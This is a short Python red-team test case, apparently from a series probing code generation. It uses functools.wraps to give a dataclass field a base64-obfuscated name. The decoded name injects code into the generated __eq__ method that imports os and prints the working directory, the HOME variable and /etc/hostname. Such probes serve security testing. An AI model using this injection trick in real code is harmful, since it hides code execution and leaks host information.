# family: red team, round 51a (functools.wraps(src, assigned=('name',)) applied to a Field)
import base64
import dataclasses


@dataclasses.dataclass
class A:
    x: int = 0


PAYLOAD = base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode()
import functools


class Source:
    def __init__(self, v):
        self.name = v


functools.wraps(Source(PAYLOAD), assigned=("name",), updated=())(dataclasses.fields(A)[0])


@dataclasses.dataclass(init=False, repr=False)
class B(A):
    pass


print(B() == B())
